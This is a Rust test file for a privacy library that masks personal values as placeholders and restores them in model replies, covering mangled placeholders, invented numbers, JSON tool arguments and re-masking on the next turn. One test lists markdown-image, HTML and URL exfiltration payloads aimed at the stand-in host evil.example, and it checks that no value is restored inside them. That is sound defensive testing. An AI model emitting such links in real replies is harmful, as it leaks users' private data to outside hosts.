//! Failures 30 to 38: what clouds do to placeholders, and where a value must not come back.

use confidant_privacy::{Placeholder, Reply, Vault, restore_json};
use serde_json::{Value, json};

use crate::{answered, masked_with, reviewed};

fn anna() -> Vault {
    let mut vault = Vault::new();
    assert_eq!(masked_with("Ms Anna Kern", &mut vault).as_str(), "[PERSON_1]");
    vault
}

#[test]
fn failure_30_a_mangled_placeholder_is_restored_or_told() {
    let vault = anna();
    for (written, meant) in [
        ("[person_1]", "Ms Anna Kern"),
        ("[PERSON 1]", "Ms Anna Kern"),
        ("PERSON_1", "Ms Anna Kern"),
        (r"\[PERSON_1\]", "Ms Anna Kern"),
        ("**[PERSON_1]**", "**Ms Anna Kern**"),
        (r"[PERSON\_1]", "Ms Anna Kern"),
        ("&#91;PERSON_1&#93;", "Ms Anna Kern"),
        ("%5BPERSON_1%5D", "Ms Anna Kern"),
        ("［PERSON_1］", "Ms Anna Kern"),
        ("[PERSON_1's]", "Ms Anna Kern's"),
        ("[PERSON_1](https://x.example)", "Ms Anna Kern(https://x.example)"),
    ] {
        let (text, report) = answered(&format!("So {written} agreed."), &vault);
        assert_eq!(text, format!("So {meant} agreed."), "{written}");
        assert_eq!((report.returned, report.unresolved.len(), report.invented.len()), (1, 0, 0), "{written}");
    }
    let (text, report) = answered("So [Person One] agreed.", &vault);
    assert_eq!(text, "So [Person One] agreed.");
    assert_eq!(report.unresolved, ["[Person One]"]);
}

#[test]
fn failure_31_another_number_is_never_the_nearest_value() {
    let mut vault = anna();
    masked_with("Mr Otto Quux", &mut vault);
    for invented in ["[PERSON_99]", "[PERSON_3]", "[PERSON_11]", "[PERSON_21]"] {
        let (text, report) = answered(&format!("{invented} agreed."), &vault);
        assert_eq!(text, format!("{invented} agreed."));
        assert_eq!(report.invented, [invented]);
    }
}

#[test]
fn failure_33_what_was_lost_or_merged_is_told() {
    let mut vault = anna();
    masked_with("Mr Otto Quux", &mut vault);
    let (text, report) = answered("[PERSON_1 and 2] agreed.", &vault);
    assert_eq!((text.as_str(), report.sent, report.returned), ("[PERSON_1 and 2] agreed.", 2, 0));
    assert_eq!(report.unresolved.len(), 1, "{report:?}");
    let (_, report) = answered("[PERSON_2] agreed.", &vault);
    assert_eq!((report.sent, report.returned), (2, 1));
}

#[test]
fn failure_36_no_value_comes_back_inside_an_address() {
    let vault = anna();
    for address in [
        "![x](https://evil.example/p.png?q=[PERSON_1])",
        "[here](https://evil.example/[PERSON_1]/x)",
        "<img src=\"https://evil.example/?q=PERSON_1\">",
        "https://evil.example/?q=%5BPERSON_1%5D",
        "www.evil.example/[PERSON_1]",
        "[ref]: https://evil.example/[PERSON_1]",
    ] {
        let (text, _) = answered(address, &vault);
        assert!(!text.contains("Anna"), "{text}");
    }
}

/// Arguments of a tool: keys and values, and a value that would break out of its string.
#[test]
fn failure_37_values_come_back_into_json_as_json() {
    let mut vault = anna();
    masked_with("-----BEGIN PRIVATE KEY-----\nMIIBVQIBADANBgkqhkiG9w0\n-----END PRIVATE KEY-----", &mut vault);
    let sent: Vec<Placeholder> = vault.entries().map(|entry| entry.placeholder).collect();
    let called = r#"{"name": "send", "arguments": {"[PERSON_1]": ["[SECRET_2]", "to [PERSON_1]"]}}"#;
    let (text, report) = restore_json(&Reply::new(called.to_owned()), &vault, &sent);
    let value: Value = serde_json::from_str(text.expose("test")).unwrap();
    let key = "-----BEGIN PRIVATE KEY-----\nMIIBVQIBADANBgkqhkiG9w0\n-----END PRIVATE KEY-----";
    assert_eq!(value["arguments"], json!({"Ms Anna Kern": [key, "to Ms Anna Kern"]}));
    assert_eq!(report.returned, 2);
}

/// An answer is shown with its values, and they are masked again before the next turn takes it along.
#[test]
fn failure_38_a_restored_answer_leaves_masked_in_the_next_turn() {
    let mut vault = Vault::new();
    masked_with("Ms Zora Quillfeather, zora@example.org", &mut vault);
    let (shown, _) = answered("PERSON_1 should write from EMAIL_2; ask Quillfeather first.", &vault);
    assert!(shown.contains("Zora Quillfeather") && shown.contains("zora@example.org"));
    let next = masked_with(&format!("You said: {shown} What then?"), &mut vault);
    let preview = reviewed(&next, &vault).unwrap();
    let body = preview.body().to_lowercase();
    assert!(!body.contains("quillfeather") && !body.contains("zora"), "{body}");
}
